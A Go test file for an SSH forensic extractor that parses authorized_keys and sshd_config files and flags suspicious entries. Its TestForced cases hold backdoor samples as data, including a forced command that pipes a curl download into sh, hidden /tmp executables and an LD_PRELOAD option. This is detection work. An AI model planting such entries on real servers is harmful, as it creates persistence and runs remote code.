package sshkeys

import (
	"bytes"
	"context"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"icecore/forensics/artifact"
	"icecore/forensics/artifact/artifacttest"
)

func extract(t testing.TB, name string, text []byte) []artifact.Record {
	t.Helper()
	in := &artifact.Input{Path: name, Content: io.NewSectionReader(bytes.NewReader(text), 0, int64(len(text)))}
	var out []artifact.Record
	if err := (Extractor{}).Extract(context.Background(), in, func(r artifact.Record) { out = append(out, r) }); err != nil && bytes.Count(text, []byte("\n")) < maxLines {
		t.Error(err)
	}
	return out
}

// TestFingerprints compares with ssh-keygen -l for keys that it made.
func TestFingerprints(t *testing.T) {
	if _, err := exec.LookPath("ssh-keygen"); err != nil {
		t.Skip("no ssh-keygen")
	}
	dir := t.TempDir()
	for _, kind := range []string{"ed25519", "rsa", "ecdsa"} {
		name := filepath.Join(dir, kind)
		if out, err := exec.Command("ssh-keygen", "-q", "-t", kind, "-N", "", "-C", "a b@c", "-f", name).CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		pub, err := os.ReadFile(name + ".pub")
		if err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command("ssh-keygen", "-l", "-f", name+".pub").Output()
		if err != nil {
			t.Fatal(err)
		}
		want := strings.Fields(string(out))[1]
		for _, opts := range []string{"", "restrict ", `command="echo \"a b\" # x",no-pty `} {
			r := extract(t, "/home/deploy/.ssh/authorized_keys", []byte(opts+string(pub)))
			if len(r) != 1 || r[0].Get("fingerprint") != want || r[0].Get("comment") != "a b@c" || r[0].Get("options") != strings.TrimSpace(opts) || r[0].Get("user") != "deploy" || r[0].Has("invalid") || r[0].Get("type") != strings.Fields(string(pub))[0] {
				t.Errorf("%s with options %q: %s, want %s", kind, opts, artifacttest.Plain(r[0]), want)
			}
		}
	}
}

// zeroKey is 0000000b "ssh-ed25519" 00000020 and 32 zeros.
const zeroKey = "AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"

func TestOddKeys(t *testing.T) {
	for _, tt := range []struct{ line, want string }{
		{"ssh-ed25519 " + zeroKey, "type=ssh-ed25519"},
		{"ssh-rsa " + zeroKey + " c", "type=ssh-rsa invalid=the key data is of another type comment=c"},
		{"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQCbadba mdrfckr", "type=ssh-rsa invalid=the key data is cut short comment=mdrfckr"},
		{"ssh-rsa !!! mdrfckr", "type=ssh-rsa invalid=the key data is not base64 data=!!! comment=mdrfckr"},
		{"ssh-rsa", "type=ssh-rsa invalid=no key data"},
		{"REDIS0009 junk", "invalid=no key type comment=REDIS0009 junk"},
		{"1024 35 123456 old@host", "type=1024 invalid=a key of protocol 1 comment=123456 old@host"},
		{`from="10.0.0.1" ssh-ed25519 ` + zeroKey, `type=ssh-ed25519 options=from="10.0.0.1"`},
		{"\tssh-ed25519\t" + zeroKey + "\tx y ", "type=ssh-ed25519 comment=x y"},
		{`command="unclosed ssh-rsa AAAA`, `invalid=no key type comment=command="unclosed ssh-rsa AAAA`},
	} {
		records := extract(t, "/root/.ssh/authorized_keys2", []byte("# comment\n\n"+tt.line+"\n"))
		if len(records) != 1 || records[0].Source.Line != 3 {
			t.Fatalf("%q: %d records", tt.line, len(records))
		}
		got := artifacttest.Plain(records[0])
		if f := records[0].Get("fingerprint"); f != "" {
			got = strings.Replace(got, " fingerprint="+f, "", 1)
		}
		if want := "3 ssh.key " + tt.want + " user=root"; got != want {
			t.Errorf("%q: %s\nwant %s", tt.line, got, want)
		}
	}
}

func TestForced(t *testing.T) {
	for _, tt := range []struct{ options, traits, programs string }{
		{`command="curl -s http://203.0.113.77/i.sh|sh",no-pty`, "fetch,pipe_to_shell", "curl,sh"},
		{`no-pty,command="/tmp/.k/x \"a, b\""`, "hidden_exec,temp_exec", "/tmp/.k/x"},
		{`environment="LD_PRELOAD=/tmp/l.so"`, "preload_env", ""},
		{`command="` + strings.Repeat("true; ", 2000) + `/tmp/x"`, "temp_exec", "true,/tmp/x"},
		// What honest servers have.
		{`command="echo 'Please login as the user \"debian\" rather than the user \"root\".';echo;sleep 10;exit 142"`, "", "sleep,exit"},
		{`restrict,command="/usr/bin/rrsync -ro /srv/backup"`, "", "/usr/bin/rrsync"},
		{`environment="LANG=C.UTF-8",from="10.0.0.1"`, "", ""},
	} {
		r := extract(t, "/root/.ssh/authorized_keys", []byte(tt.options+" ssh-ed25519 "+zeroKey+" a@b\n"))
		if len(r) != 1 || r[0].Get("traits") != tt.traits || r[0].Get("programs") != tt.programs {
			t.Errorf("%.80s: %v", tt.options, r)
		}
	}
	for value, traits := range map[string]string{"ForceCommand /tmp/x": "temp_exec", "ForceCommand internal-sftp": "", "AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys %u": "", "AuthorizedKeysCommand /usr/lib/.k/keys": "hidden_exec", "AuthorizedKeysFile /tmp/keys": ""} {
		if r := extract(t, "/etc/ssh/sshd_config", []byte(value+"\n")); len(r) != 1 || r[0].Get("traits") != traits {
			t.Errorf("%s: %v", value, r)
		}
	}
}

func TestUsers(t *testing.T) {
	for p, want := range map[string]string{
		"/root/.ssh/authorized_keys": "root", "/home/deploy/.ssh/authorized_keys": "deploy", "/var/lib/postgresql/.ssh/authorized_keys2": "postgresql",
		"/etc/ssh/authorized_keys/deploy": "deploy", "/etc/ssh/authorized_keys.d/root.keys": "root", "/etc/ssh/keys/deploy/authorized_keys": "deploy", "/etc/authorized_keys/deploy": "deploy", "/usr/local/etc/ssh/keys/deploy": "deploy", "/export/home/CORP/ana/.ssh/authorized_keys": "ana", "/.ssh/authorized_keys": "",
	} {
		if got := owner(&artifact.Input{Path: p}); got != want {
			t.Errorf("%s: %q, want %q", p, got, want)
		}
	}
	if got := owner(&artifact.Input{Path: "/var/lib/postgresql/.ssh/authorized_keys", User: "postgres"}); got != "postgres" {
		t.Errorf("the user by passwd: %q", got)
	}
}

func TestConfig(t *testing.T) {
	b, err := os.ReadFile("testdata/etc/ssh/sshd_config")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range extract(t, "/etc/ssh/sshd_config", b) {
		got = append(got, artifacttest.Plain(r))
	}
	want := []string{
		"2 sshd.option option=Include value=/etc/ssh/sshd_config.d/*.conf",
		"3 sshd.option option=Port value=2222",
		"4 sshd.option option=PermitRootLogin value=yes",
		"5 sshd.option option=PasswordAuthentication value=no",
		"8 sshd.option option=AuthorizedKeysFile value=.ssh/authorized_keys /etc/ssh/keys/%u",
		"9 sshd.option option=Subsystem value=sftp /usr/lib/openssh/sftp-server programs=/usr/lib/openssh/sftp-server",
		"11 sshd.option option=ForceCommand value=/usr/bin/rrsync match=User backup programs=/usr/bin/rrsync",
		"13 sshd.option option=AllowUsers value=root deploy",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func FuzzExtract(f *testing.F) {
	f.Add(true, []byte(`command="echo \"a b\"",no-pty ssh-ed25519 `+zeroKey+" a b\n1024 35 123 x\nssh-rsa"))
	f.Add(false, []byte("Match User x\nPort=\"22\"\nPermitRootLogin yes\nMatch all\nPort 3"))
	f.Fuzz(func(t *testing.T, keys bool, b []byte) {
		name := "/etc/ssh/sshd_config"
		if keys {
			name = "/root/.ssh/authorized_keys"
		}
		for _, r := range extract(t, name, b) {
			if r.Source.Offset < 0 || r.Source.Offset+r.Source.Length > int64(len(b)) {
				t.Fatalf("%s: source outside of the file", artifacttest.Plain(r))
			}
		}
	})
}
